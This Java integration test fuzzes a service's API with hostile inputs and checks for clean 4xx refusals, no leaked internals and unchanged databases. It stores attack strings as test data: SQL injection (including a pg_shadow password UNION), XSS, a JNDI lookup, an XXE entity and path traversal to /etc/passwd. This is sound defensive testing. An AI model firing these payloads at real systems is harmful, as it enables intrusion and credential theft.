package org.yaqaza.systemtest.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Pattern;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import org.yaqaza.systemtest.Json;

/**
 * Issue 6, item 4: what an attacker (or a broken client) sends. For every operation of every OpenAPI document that
 * takes a body or parameters, with a caller the authorization matrix lets through: malformed JSON, wrong types,
 * missing required fields, 1 MB strings, invalid UTF-8, JSON nested 10,000 deep, SQL and HTML injection strings,
 * path traversal and junk in ids, huge and negative numbers and page sizes. Every answer must be a 4xx problem
 * (or a 2xx where the input is legal, e.g. an injection string as a title — then it must come back byte for
 * byte), never a 5xx, never a stack trace, SQL or class name; and the refused requests leave every database as
 * it was.
 */
class HostileInputIT {

    /** Who tries an operation: the first of these the matrix lets through. */
    private static final List<String> PREFERENCE = List.of("analyst", "supervisor", "collector", "liaison-officer",
            "prevention-officer", "prevention-supervisor", "auditor", "admin", "partner", "anonymous");

    /** What leaks internals: stack frames, Java/Quarkus/JDBC names, PostgreSQL error texts. */
    private static final Pattern LEAK = Pattern.compile("(?i)(\\bat [a-z_$][\\w$]*\\.[\\w$.]+\\(|\\.java:\\d+"
            + "|exception\\b|Exception:|java\\.(lang|util|io|sql)\\.|jakarta\\.|org\\.(yaqaza|hibernate|jboss|"
            + "postgresql|jose4j)|io\\.(quarkus|vertx|smallrye)|com\\.fasterxml|SQLState|PSQLException"
            + "|syntax error at or near|ERROR: |violates (not-null|unique|foreign key|check) constraint"
            + "|relation \"\\w+\" does not exist|Hibernate|Jackson)");

    /** Tables that change by design on a refusal or without any request (audit, sign-in throttling, jobs). */
    private static final Set<String> SELF_CHANGING = Set.of("gateway.audit_event", "intelligence.audit_event",
            "liaison.audit_event", "prevention.audit_event",
            // a refused sign-in is recorded on purpose: it is what throttles the next guess (issue 16)
            "gateway.sign_in_failure");

    private static final List<String> INJECTIONS = List.of(
            "Robert'); DROP TABLE report; --",
            "' OR '1'='1' --",
            "1; SELECT pg_sleep(10); --",
            "%' UNION SELECT usename, passwd FROM pg_shadow --",
            "<script>alert(\"yaqaza\")</script>",
            "<img src=x onerror=alert(1)>\"><svg/onload=alert(2)>",
            "تقرير <b>عاجل</b> ' OR 1=1; -- \\u0000 ${jndi:ldap://x/a} {{7*7}}");

    private static final String MEGABYTE = "ي".repeat(512 * 1024); // 1 MiB of UTF-8, Arabic yaa (2 bytes each)

    private static SecuritySuite suite;
    private static OpenApiCatalog catalog;
    private static AuthorizationMatrix matrix;
    private static Samples samples;

    @BeforeAll
    static void start() {
        suite = SecuritySuite.acquire(HostileInputIT.class);
        catalog = OpenApiCatalog.fetch(suite);
        matrix = AuthorizationMatrix.load();
        samples = new Samples(catalog);
    }

    @AfterAll
    static void stop() {
        SecuritySuite.release(HostileInputIT.class);
    }

    /**
     * A snapshot once the databases have stopped changing (two in a row alike, at most a minute): the suite is shared
     * with the other matrix classes, whose writes may still be followed by background work (outbox deliveries) when
     * this class starts; the comparison after the refusals is the same either way.
     */
    private static Map<String, String> settledSnapshot() {
        Map<String, String> previous = DatabaseSnapshot.take(suite.suite().database(), SELF_CHANGING);
        long deadline = System.nanoTime() + 60_000_000_000L;
        while (System.nanoTime() < deadline) {
            try {
                Thread.sleep(1_500);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                break;
            }
            Map<String, String> next = DatabaseSnapshot.take(suite.suite().database(), SELF_CHANGING);
            if (next.equals(previous)) {
                return next;
            }
            previous = next;
        }
        return previous;
    }

    /** What an answer may be. */
    enum Expect {
        /** 4xx problem only: nothing about the input is acceptable. */
        REFUSED,
        /** 4xx problem, or 2xx when the input is merely odd (a clamped page size, a query that finds nothing). */
        REFUSED_OR_OK,
        /** 4xx problem, or 2xx and then the strings sent come back exactly as sent. */
        REFUSED_OR_STORED_VERBATIM
    }

    record Case(OpenApiCatalog.Operation op, String kind, String caller, String target, String contentType,
            byte[] body, Map<String, String> headers, Expect expect, Map<String, String> sentStrings) {

        boolean changesNothingWhenRefused() {
            return expect == Expect.REFUSED || op.method().equals("GET");
        }

        @Override
        public String toString() {
            return op.key() + " [" + kind + "] as " + caller + " -> " + op.method() + " " + shorten(target, 200);
        }
    }

    @Test
    void everyHostileInputIsRefusedCleanlyAndChangesNothing() {
        List<Case> cases = new ArrayList<>();
        Map<String, String> realIds = new ConcurrentHashMap<>();
        for (OpenApiCatalog.Operation op : catalog.operations()) {
            if (op.parameters().isEmpty() && op.bodyTypes().isEmpty()) {
                continue;
            }
            Optional<String> caller = matrix.allowedCaller(op.key(), PREFERENCE);
            if (caller.isEmpty()) {
                continue; // nobody may call it (or it is not in the table: the matrix test says so)
            }
            cases.addAll(casesFor(op, caller.get(), realIds));
        }
        List<Case> strict = cases.stream().filter(Case::changesNothingWhenRefused).toList();
        List<Case> lenient = cases.stream().filter(c -> !c.changesNothingWhenRefused()).toList();

        List<String> failures = Collections.synchronizedList(new ArrayList<>());
        List<String> fiveHundreds = Collections.synchronizedList(new ArrayList<>());
        Map<String, AtomicInteger> outcomes = new ConcurrentHashMap<>();
        long started = System.nanoTime();

        Map<String, String> before = settledSnapshot();
        run(strict, failures, fiveHundreds, outcomes);
        Map<String, String> after = DatabaseSnapshot.take(suite.suite().database(), SELF_CHANGING);
        run(lenient, failures, fiveHundreds, outcomes);

        Map<String, String> changed = new TreeMap<>();
        before.forEach((table, print) -> {
            if (!print.equals(after.get(table))) {
                changed.put(table, print + " -> " + after.get(table));
            }
        });
        after.keySet().stream().filter(t -> !before.containsKey(t)).forEach(t -> changed.put(t, "new table"));

        Collections.sort(failures);
        System.out.printf("hostile input: %d cases (%d refusal-only, %d that may be stored) over %d operations in "
                + "%.1f s, %d failures, %d 5xx; outcomes %s%n", cases.size(), strict.size(), lenient.size(),
                cases.stream().map(Case::op).distinct().count(), (System.nanoTime() - started) / 1e9,
                failures.size(), fiveHundreds.size(), new TreeMap<>(outcomes));
        fiveHundreds.stream().sorted().forEach(f -> System.out.println("hostile input 5xx: " + f));
        failures.forEach(f -> System.out.println("hostile input failure: " + f));
        changed.forEach((t, c) -> System.out.println("hostile input changed table: " + t + " " + c));
        writeFindings(fiveHundreds, failures, changed);
        org.junit.jupiter.api.Assertions.assertAll(
                () -> assertTrue(fiveHundreds.isEmpty(), fiveHundreds.size() + " hostile inputs got a 5xx:\n  "
                        + String.join("\n  ", fiveHundreds.stream().sorted().toList())),
                () -> assertTrue(failures.isEmpty(), failures.size() + " hostile inputs were not refused cleanly:\n  "
                        + String.join("\n  ", failures)),
                () -> assertEquals(Map.of(), changed, "tables changed by requests that were all refused"));
    }

    /** The full list for whoever fixes the services: target/hostile-input-findings.txt. */
    private static void writeFindings(List<String> fiveHundreds, List<String> failures, Map<String, String> changed) {
        StringBuilder out = new StringBuilder();
        fiveHundreds.stream().sorted().forEach(f -> out.append("5xx: ").append(f).append('\n'));
        failures.forEach(f -> out.append("failure: ").append(f).append('\n'));
        changed.forEach((t, c) -> out.append("changed table: ").append(t).append(' ').append(c).append('\n'));
        try {
            java.nio.file.Files.createDirectories(java.nio.file.Path.of("target"));
            java.nio.file.Files.writeString(java.nio.file.Path.of("target", "hostile-input-findings.txt"), out);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static void run(List<Case> cases, List<String> failures, List<String> fiveHundreds,
            Map<String, AtomicInteger> outcomes) {
        ExecutorService pool = Executors.newFixedThreadPool(8);
        try {
            CompletableFuture.allOf(cases.stream().map(c -> CompletableFuture.runAsync(() -> {
                SecuritySuite.Answer answer;
                try {
                    answer = suite.send(c.op().method(), c.target(), c.caller(), c.contentType(), c.body(),
                            c.headers());
                } catch (RuntimeException e) {
                    failures.add(c + ": no answer: " + e.getMessage());
                    return;
                }
                outcomes.computeIfAbsent(answer.status() / 100 + "xx", k -> new AtomicInteger()).incrementAndGet();
                if (answer.status() >= 500) {
                    fiveHundreds.add(c + ": " + answer);
                    return;
                }
                String failure = judge(c, answer);
                if (failure != null) {
                    failures.add(c + ": " + failure);
                }
            }, pool)).toArray(CompletableFuture[]::new)).join();
        } finally {
            pool.shutdownNow();
        }
    }

    private static String judge(Case c, SecuritySuite.Answer answer) {
        int status = answer.status();
        String text = answer.text();
        if (c.kind().startsWith("path ") && (text.contains("root:x:0:0") || text.contains("[fonts]")
                || text.contains("\"checks\""))) {
            return "the path reached a file or another route: " + answer;
        }
        java.util.regex.Matcher leak = LEAK.matcher(withoutSent(text, c));
        if (leak.find()) {
            return "internals in the answer (" + leak.group() + "): " + answer;
        }
        if (status >= 400 && status < 500) {
            // TAXII errors are TAXII error documents; the token and revocation endpoints speak OAuth 2 (RFC 6749
            // section 5.2, RFC 7009 section 2.2.1)
            boolean taxii = c.op().path().startsWith("/taxii2");
            boolean oauth = c.op().path().equals("/auth/token") || c.op().path().equals("/auth/revoke");
            if (!answer.contentType().startsWith("application/problem+json")
                    && !(taxii && answer.contentType().startsWith("application/taxii+json"))
                    && !(oauth && answer.contentType().startsWith("application/json") && text.contains("\"error\""))) {
                return "a " + status + " that is not a problem document: " + answer;
            }
            if (status == 401 || status == 403) {
                return "an authorised caller was refused (" + status + "): " + answer;
            }
            return null;
        }
        if (status >= 300) {
            return "unexpected " + answer;
        }
        switch (c.expect()) {
            case REFUSED -> {
                if (c.contentType() != null && c.contentType().contains("ndjson")) {
                    return answer.header("X-Bulk-Stored").filter(s -> !s.equals("0"))
                            .map(s -> "bulk ingest stored " + s + " hostile lines: " + answer).orElse(null);
                }
                return "accepted: " + answer;
            }
            case REFUSED_OR_OK -> {
                return null;
            }
            default -> {
                return verifyStored(c, answer);
            }
        }
    }

    /** The answer without the strings the case sent (an answer may echo them: that is no leak). */
    private static String withoutSent(String text, Case c) {
        String result = text;
        for (String sent : c.sentStrings().values()) {
            if (sent.length() > 3) {
                result = result.replace(sent, "").replace(Json.write(sent).replace("\"", ""), "");
            }
        }
        for (String injection : INJECTIONS) {
            result = result.replace(injection, "");
        }
        return result;
    }

    /** A 2xx on input with odd strings: the record read back carries them byte for byte. */
    @SuppressWarnings("unchecked")
    private static String verifyStored(Case c, SecuritySuite.Answer answer) {
        if (c.sentStrings().isEmpty() || !answer.contentType().contains("json")) {
            return null;
        }
        Object parsed = Json.parse(answer.text());
        if (!(parsed instanceof Map<?, ?> created)) {
            return null;
        }
        Map<String, Object> stored = (Map<String, Object>) created;
        Optional<String> location = answer.header("Location");
        if (location.isPresent()) {
            String path = URI.create(location.get()).getRawPath();
            SecuritySuite.Answer read = suite.get(path, c.caller());
            if (read.status() == 200 && read.contentType().contains("json")
                    && Json.parse(read.text()) instanceof Map<?, ?> readBack) {
                stored = (Map<String, Object>) readBack;
            }
        }
        for (Map.Entry<String, String> sent : c.sentStrings().entrySet()) {
            Object value = stored.get(sent.getKey());
            if (value instanceof String s && !s.equals(sent.getValue())) {
                return "stored " + sent.getKey() + " differs from what was sent (" + s.length() + " vs "
                        + sent.getValue().length() + " chars: " + shorten(s, 120) + ")";
            }
        }
        return null;
    }

    // ---------------------------------------------------------------- the cases

    /** For a dry run without a suite (see the class comment of the test resources). */
    static List<Case> dryRun(OpenApiCatalog documents, AuthorizationMatrix table) {
        catalog = documents;
        matrix = table;
        samples = new Samples(documents);
        List<Case> cases = new ArrayList<>();
        for (OpenApiCatalog.Operation op : catalog.operations()) {
            if (op.parameters().isEmpty() && op.bodyTypes().isEmpty()) {
                continue;
            }
            matrix.allowedCaller(op.key(), PREFERENCE).ifPresent(c -> cases.addAll(casesFor(op, c, new HashMap<>())));
        }
        return cases;
    }

    private static List<Case> casesFor(OpenApiCatalog.Operation op, String caller, Map<String, String> realIds) {
        List<Case> cases = new ArrayList<>();
        Map<String, String> pathValues = new LinkedHashMap<>();
        for (OpenApiCatalog.Parameter p : op.parameters("path")) {
            pathValues.put(p.name(), realId(op, p, caller, realIds));
        }
        Map<String, String> validQuery = new LinkedHashMap<>();
        for (OpenApiCatalog.Parameter p : op.parameters("query")) {
            if (p.required()) {
                validQuery.put(p.name(), URLEncoder.encode(samples.queryValue(p.name(), p.schema()),
                        StandardCharsets.UTF_8));
            }
        }
        Map<String, String> validHeaders = new LinkedHashMap<>();
        for (OpenApiCatalog.Parameter p : op.parameters("header")) {
            if (p.required()) {
                validHeaders.put(p.name(), samples.queryValue(p.name(), p.schema()));
            }
        }
        String contentType = op.bodyTypes().isEmpty() ? null : op.bodyTypes().keySet().iterator().next();
        Optional<Map<String, Object>> schema = op.jsonBody();
        byte[] validBody = null;
        if (contentType != null) {
            validBody = schema.isPresent() && !contentType.contains("ndjson")
                    ? Json.write(samples.body(schema.get(), false)).getBytes(StandardCharsets.UTF_8) : new byte[0];
        } else if (Set.of("POST", "PUT", "PATCH").contains(op.method())) {
            validBody = new byte[0];
        }
        CaseBuilder base = new CaseBuilder(op, caller, pathValues, validQuery, validHeaders, contentType,
                validBody);

        // path parameters: traversal, junk, injection
        for (OpenApiCatalog.Parameter p : op.parameters("path")) {
            for (Map.Entry<String, String> hostile : hostilePathValues().entrySet()) {
                // a read may treat any string as a key that finds nothing (a certificate lookup answers UNKNOWN)
                cases.add(base.path(p.name(), hostile.getValue()).build("path " + p.name() + " " + hostile.getKey(),
                        op.method().equals("GET") ? Expect.REFUSED_OR_OK : Expect.REFUSED, Map.of()));
            }
        }
        // query parameters: wrong types, negative and huge numbers, injection, junk bytes
        for (OpenApiCatalog.Parameter p : op.parameters("query")) {
            for (Map.Entry<String, String> hostile : hostileQueryValues(p).entrySet()) {
                cases.add(base.query(p.name(), hostile.getValue()).build("query " + p.name() + " "
                        + hostile.getKey(), op.method().equals("GET") ? Expect.REFUSED_OR_OK
                                : Expect.REFUSED_OR_STORED_VERBATIM, Map.of()));
            }
        }
        // header parameters (If-Match, Idempotency-Key, Last-Event-ID...): junk and oversized values
        for (OpenApiCatalog.Parameter p : op.parameters("header")) {
            for (Map.Entry<String, String> hostile : Map.of("junk", "\"><script>' OR 1=1 --", "long",
                    "x".repeat(8000), "negative", "-1").entrySet()) {
                cases.add(base.header(p.name(), hostile.getValue()).build("header " + p.name() + " "
                        + hostile.getKey(), Expect.REFUSED_OR_OK, Map.of()));
            }
        }
        if (contentType == null) {
            return cases;
        }
        if (contentType.contains("ndjson")) {
            cases.addAll(ndjsonCases(base));
            return cases;
        }
        if (contentType.contains("x-www-form-urlencoded")) {
            cases.addAll(formCases(base));
            return cases;
        }
        // bodies: broken documents, each refused whatever the operation
        Map<String, byte[]> broken = new LinkedHashMap<>();
        broken.put("malformed JSON", "{\"title\": \"unterminated".getBytes(StandardCharsets.UTF_8));
        broken.put("truncated JSON", Optional.ofNullable(validBody).filter(b -> b.length > 2)
                .map(b -> java.util.Arrays.copyOf(b, b.length / 2)).orElse("{".getBytes()));
        broken.put("trailing garbage", (new String(validBody, StandardCharsets.UTF_8) + "}}garbage")
                .getBytes(StandardCharsets.UTF_8));
        broken.put("nested 10000 arrays", ("[".repeat(10_000) + "]".repeat(10_000)).getBytes());
        broken.put("nested 10000 objects", ("{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000)).getBytes());
        broken.put("invalid UTF-8", invalidUtf8(validBody));
        broken.put("NUL bytes", new byte[] { '{', 0, 0, 0, '}' });
        broken.put("binary", new byte[] { (byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, (byte) 0xff, (byte) 0xfe });
        Map<String, Object> bodySchema = schema.orElse(Map.of());
        boolean arrayBody = "array".equals(bodySchema.get("type"));
        if (!arrayBody) {
            broken.put("top-level array", "[]".getBytes());
            broken.put("top-level number", "42".getBytes());
            broken.put("top-level string", "\"text\"".getBytes());
        }
        broken.put("null", "null".getBytes());
        if (op.bodyRequired() || !bodySchema.isEmpty()) {
            broken.put("empty", new byte[0]);
        }
        broken.forEach((kind, body) -> cases.add(base.body(body).build("body " + kind, Expect.REFUSED, Map.of())));
        cases.add(base.contentType("text/plain").body(validBody).build("body as text/plain", Expect.REFUSED,
                Map.of()));
        cases.add(base.contentType("application/xml").body(("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM"
                + " \"file:///etc/passwd\">]><a>&x;</a>").getBytes()).build("body XML entity", Expect.REFUSED,
                        Map.of()));

        if (schema.isEmpty() || !"object".equals(typeOf(bodySchema))) {
            return cases;
        }
        cases.addAll(objectBodyCases(base, bodySchema));
        return cases;
    }

    @SuppressWarnings("unchecked")
    private static List<Case> objectBodyCases(CaseBuilder base, Map<String, Object> schema) {
        List<Case> cases = new ArrayList<>();
        Map<String, Object> valid = (Map<String, Object>) samples.body(schema, false);
        Map<String, Object> properties = (Map<String, Object>) schema.getOrDefault("properties", Map.of());
        List<String> required = (List<String>) schema.getOrDefault("required", List.of());

        // missing required fields: all of them, then each one
        if (!required.isEmpty()) {
            cases.add(base.json(Map.of()).build("body {} without the required " + required, Expect.REFUSED,
                    Map.of()));
            for (String field : required) {
                Map<String, Object> without = new LinkedHashMap<>(valid);
                without.remove(field);
                cases.add(base.json(without).build("body without required " + field, Expect.REFUSED, Map.of()));
                Map<String, Object> nulled = new LinkedHashMap<>(valid);
                nulled.put(field, null);
                cases.add(base.json(nulled).build("body required " + field + " null", Expect.REFUSED, Map.of()));
            }
        }
        List<String> freeText = new ArrayList<>();
        properties.forEach((name, raw) -> {
            Map<String, Object> p = resolveProperty(schema, raw);
            String type = typeOf(p);
            // wrong types, one field at a time
            Object wrong = switch (type) {
                case "string" -> p.containsKey("enum") ? "NOT_ONE_OF_THE_VALUES" : Map.of("nested", "object");
                case "integer", "number" -> "not a number";
                case "boolean" -> "perhaps";
                case "array" -> "not an array";
                case "object" -> 42;
                default -> null;
            };
            if (wrong != null) {
                Map<String, Object> body = new LinkedHashMap<>(valid);
                body.put(name, wrong);
                cases.add(base.json(body).build("body " + name + " wrong type", Expect.REFUSED, Map.of()));
            }
            if ("string".equals(type) && p.get("format") != null) {
                Map<String, Object> body = new LinkedHashMap<>(valid);
                body.put(name, "2026-13-45T25:61:61Z/../../etc/passwd");
                cases.add(base.json(body).build("body " + name + " bad " + p.get("format"), Expect.REFUSED,
                        Map.of()));
            }
            if ("integer".equals(type) || "number".equals(type)) {
                for (Map.Entry<String, Object> n : Map.<String, Object>of("negative", -1, "2^31", 2_147_483_648L,
                        "2^63", new Json.RawJson("9223372036854775808"), "1e400", new Json.RawJson("1e400"),
                        "fraction", 0.5).entrySet()) {
                    Map<String, Object> body = new LinkedHashMap<>(valid);
                    body.put(name, n.getValue());
                    cases.add(base.json(body).build("body " + name + " " + n.getKey(),
                            Expect.REFUSED_OR_STORED_VERBATIM, Map.of()));
                }
            }
            if ("string".equals(type) && !p.containsKey("enum") && p.get("format") == null
                    && p.get("pattern") == null) {
                freeText.add(name);
            }
        });
        // unknown fields that try to set what the server decides
        Map<String, Object> assigned = new LinkedHashMap<>(valid);
        assigned.put("id", "00000000-0000-0000-0000-000000000001");
        assigned.put("createdBy", "attacker");
        assigned.put("ownerAgency", "FOREIGN");
        assigned.put("roles", List.of("admin"));
        cases.add(base.json(assigned).build("body with server-side fields", Expect.REFUSED_OR_STORED_VERBATIM,
                Map.of()));
        // deep nesting inside a field, and a huge array
        if (!properties.isEmpty()) {
            String first = properties.keySet().iterator().next();
            Map<String, Object> nested = new LinkedHashMap<>(valid);
            nested.put(first, new Json.RawJson("[".repeat(10_000) + "]".repeat(10_000)));
            cases.add(base.json(nested).build("body " + first + " nested 10000", Expect.REFUSED, Map.of()));
        }
        // injection strings and 1 MB strings in every free-text field: legal text, stored verbatim or refused
        if (!freeText.isEmpty()) {
            for (int i = 0; i < INJECTIONS.size(); i++) {
                Map<String, Object> body = new LinkedHashMap<>(valid);
                Map<String, String> sent = new LinkedHashMap<>();
                for (String field : freeText) {
                    body.put(field, INJECTIONS.get(i));
                    sent.put(field, INJECTIONS.get(i));
                }
                cases.add(base.json(body).build("body injection #" + (i + 1) + " in " + freeText,
                        Expect.REFUSED_OR_STORED_VERBATIM, sent));
            }
            // a NUL character (legal JSON, "\u0000"; PostgreSQL text cannot hold it): refused, never a 5xx
            Map<String, Object> withNul = new LinkedHashMap<>(valid);
            Map<String, String> nulSent = new LinkedHashMap<>();
            for (String field : freeText) {
                withNul.put(field, "before\u0000after");
                nulSent.put(field, "before\u0000after");
            }
            cases.add(base.json(withNul).build("body NUL character in " + freeText,
                    Expect.REFUSED_OR_STORED_VERBATIM, nulSent));
            Map<String, Object> big = new LinkedHashMap<>(valid);
            Map<String, String> sent = new LinkedHashMap<>();
            for (String field : freeText) {
                big.put(field, MEGABYTE);
                sent.put(field, MEGABYTE);
            }
            cases.add(base.json(big).build("body 1 MiB strings in " + freeText, Expect.REFUSED_OR_STORED_VERBATIM,
                    sent));
            // a single 1 MiB string (a field with no length limit may take it)
            Map<String, Object> one = new LinkedHashMap<>(valid);
            one.put(freeText.get(0), MEGABYTE);
            cases.add(base.json(one).build("body 1 MiB " + freeText.get(0), Expect.REFUSED_OR_STORED_VERBATIM,
                    Map.of(freeText.get(0), MEGABYTE)));
        }
        return cases;
    }

    private static List<Case> ndjsonCases(CaseBuilder base) {
        List<Case> cases = new ArrayList<>();
        Map<String, byte[]> lines = new LinkedHashMap<>();
        lines.put("malformed lines", "{\"title\":\n{{{\n[1,2\n".getBytes());
        lines.put("nested 10000", ("[".repeat(10_000) + "]".repeat(10_000) + "\n").getBytes());
        lines.put("invalid UTF-8", invalidUtf8("{\"title\":\"x\"}\n".getBytes()));
        lines.put("empty objects", "{}\n{}\n{}\n".getBytes());
        lines.put("wrong types", "{\"title\":{\"a\":1},\"credibility\":\"high\",\"classification\":7}\n".getBytes());
        lines.put("3 MB line", ("{\"title\":\"" + "x".repeat(3 * 1024 * 1024) + "\"}\n").getBytes());
        lines.forEach((kind, body) -> cases.add(base.body(body).build("ndjson " + kind, Expect.REFUSED,
                Map.of())));
        return cases;
    }

    private static List<Case> formCases(CaseBuilder base) {
        List<Case> cases = new ArrayList<>();
        Map<String, byte[]> forms = new LinkedHashMap<>();
        forms.put("malformed", "grant_type=%%%&&==&password=%zz".getBytes());
        forms.put("invalid UTF-8", invalidUtf8("grant_type=password&username=x&password=y".getBytes()));
        forms.put("SQL injection", ("grant_type=password&username=" + URLEncoder.encode("admin' OR '1'='1' --",
                StandardCharsets.UTF_8) + "&password=x").getBytes());
        forms.put("1 MiB", ("grant_type=password&username=" + "a".repeat(1024 * 1024) + "&password=x").getBytes());
        forms.put("unknown grant", "grant_type=authorization_code&code=x".getBytes());
        forms.put("repeated grant", "grant_type=password&grant_type=client_credentials".getBytes());
        forms.forEach((kind, body) -> cases.add(base.body(body).build("form " + kind, Expect.REFUSED, Map.of())));
        return cases;
    }

    private static Map<String, String> hostilePathValues() {
        Map<String, String> values = new LinkedHashMap<>();
        values.put("traversal ../", "..%2F..%2F..%2F..%2Fetc%2Fpasswd");
        values.put("traversal %2e%2e%2f", "%2e%2e%2f%2e%2e%2f%2e%2e%2fq%2fhealth");
        values.put("traversal double-encoded", "%252e%252e%252f%252e%252e%252fetc%252fpasswd");
        values.put("traversal backslash", "..%5C..%5C..%5Cwindows%5Cwin.ini");
        values.put("SQL injection", URLEncoder.encode("1' OR '1'='1", StandardCharsets.UTF_8));
        values.put("HTML", URLEncoder.encode("<script>alert(1)</script>", StandardCharsets.UTF_8));
        values.put("not an id", "not-an-id");
        values.put("negative", "-1");
        values.put("huge number", "99999999999999999999999999");
        values.put("NUL", "abc%00def");
        values.put("invalid UTF-8", "%C3%28%FF%FE");
        values.put("long", "x".repeat(2000));
        return values;
    }

    private static Map<String, String> hostileQueryValues(OpenApiCatalog.Parameter p) {
        Map<String, String> values = new LinkedHashMap<>();
        String type = typeOf(p.schema());
        if (!"string".equals(type) || p.schema().containsKey("enum") || p.schema().get("format") != null) {
            values.put("wrong type", "not-a-" + type);
        }
        values.put("negative", "-1");
        values.put("huge", "2147483648");
        values.put("enormous", "99999999999999999999999999999");
        values.put("SQL injection", URLEncoder.encode("' OR 1=1; DROP TABLE report; --", StandardCharsets.UTF_8));
        values.put("HTML", URLEncoder.encode("<script>alert(1)</script>", StandardCharsets.UTF_8));
        values.put("traversal", "..%2F..%2F..%2Fetc%2Fpasswd");
        values.put("invalid UTF-8", "%C3%28%FF");
        values.put("NUL", "a%00b");
        values.put("long", "q".repeat(2000));
        values.put("empty", "");
        return values;
    }

    /** The given document with an invalid UTF-8 sequence inside its first string (or alone). */
    private static byte[] invalidUtf8(byte[] document) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int quote = -1;
        for (int i = 0; document != null && i < document.length; i++) {
            if (document[i] == '"') {
                quote = i;
                break;
            }
        }
        if (quote < 0) {
            return new byte[] { '"', (byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0xFE, '"' };
        }
        out.write(document, 0, quote + 1);
        out.writeBytes(new byte[] { (byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0xED, (byte) 0xA0, (byte) 0x80 });
        out.write(document, quote + 1, document.length - quote - 1);
        return out.toByteArray();
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> resolveProperty(Map<String, Object> parent, Object raw) {
        Map<String, Object> p = new LinkedHashMap<>((Map<String, Object>) raw);
        p.putIfAbsent("x-service", parent.get("x-service"));
        return catalog.resolve(p);
    }

    private static String typeOf(Map<String, Object> schema) {
        if (schema.get("type") instanceof String t) {
            return t;
        }
        if (schema.containsKey("properties")) {
            return "object";
        }
        if (schema.containsKey("items")) {
            return "array";
        }
        return schema.containsKey("enum") ? "string" : "unknown";
    }

    // ---------------------------------------------------------------- real ids for the paths

    /**
     * An id that exists, so that a hostile body or query meets the code behind the id check: the first item of
     * the collection the path sits under ({@code /a/{id}/b} → {@code GET /a}), else a made-up one. The directory
     * admin API gets made-up ids only (its real records are the accounts the tests sign in with).
     */
    @SuppressWarnings("unchecked")
    private static String realId(OpenApiCatalog.Operation op, OpenApiCatalog.Parameter p, String caller,
            Map<String, String> cache) {
        String template = op.path();
        String collection = template.substring(0, Math.max(0, template.indexOf("{" + p.name() + "}") - 1));
        String fallback = Samples.missingPathValue(p.schema());
        if (suite == null || collection.isEmpty() || collection.contains("{") || collection.startsWith("/api/admin")) {
            return fallback;
        }
        String key = op.service() + " " + collection + " " + p.name() + " " + caller;
        return cache.computeIfAbsent(key, k -> {
            boolean listed = catalog.operations().stream().anyMatch(o -> o.service().equals(op.service())
                    && o.method().equals("GET") && o.path().equals(collection));
            if (!listed) {
                return fallback;
            }
            SecuritySuite.Answer answer = suite.get(collection, caller);
            if (answer.status() != 200 || !answer.contentType().contains("json")) {
                return fallback;
            }
            Object parsed = Json.parse(answer.text());
            List<Object> items = parsed instanceof List<?> list ? (List<Object>) list
                    : parsed instanceof Map<?, ?> page && page.get("items") instanceof List<?> list
                            ? (List<Object>) list : List.of();
            for (Object item : items) {
                if (item instanceof Map<?, ?> record) {
                    for (String field : List.of(p.name(), "id", "code", "number")) {
                        if (record.get(field) instanceof String s) {
                            return URLEncoder.encode(s, StandardCharsets.UTF_8);
                        }
                    }
                }
            }
            return fallback;
        });
    }

    // ---------------------------------------------------------------- building requests

    private record CaseBuilder(OpenApiCatalog.Operation op, String caller, Map<String, String> pathValues,
            Map<String, String> query, Map<String, String> headers, String contentType, byte[] body) {

        CaseBuilder path(String name, String rawValue) {
            Map<String, String> values = new LinkedHashMap<>(pathValues);
            values.put(name, rawValue);
            return new CaseBuilder(op, caller, values, query, headers, contentType, body);
        }

        /** {@code encodedValue} is sent as it is (the query map holds encoded values). */
        CaseBuilder query(String name, String encodedValue) {
            Map<String, String> values = new LinkedHashMap<>(query);
            values.put(name, encodedValue);
            return new CaseBuilder(op, caller, pathValues, values, headers, contentType, body);
        }

        CaseBuilder header(String name, String value) {
            Map<String, String> values = new LinkedHashMap<>(headers);
            values.put(name, value);
            return new CaseBuilder(op, caller, pathValues, query, values, contentType, body);
        }

        CaseBuilder contentType(String type) {
            return new CaseBuilder(op, caller, pathValues, query, headers, type, body);
        }

        CaseBuilder body(byte[] bytes) {
            return new CaseBuilder(op, caller, pathValues, query, headers, contentType, bytes);
        }

        CaseBuilder json(Object document) {
            return body(Json.write(document).getBytes(StandardCharsets.UTF_8));
        }

        String target() {
            String path = op.path();
            for (Map.Entry<String, String> v : pathValues.entrySet()) {
                path = path.replace("{" + v.getKey() + "}", v.getValue());
            }
            List<String> parts = new ArrayList<>();
            query.forEach((k, v) -> parts.add(k + "=" + v));
            return parts.isEmpty() ? path : path + "?" + String.join("&", parts);
        }

        Case build(String kind, Expect expect, Map<String, String> sent) {
            return new Case(op, kind, caller, target(), contentType, body, headers, expect, sent);
        }
    }

    private static String shorten(String s, int max) {
        return s.length() > max ? s.substring(0, max) + "…(" + s.length() + " chars)" : s;
    }
}
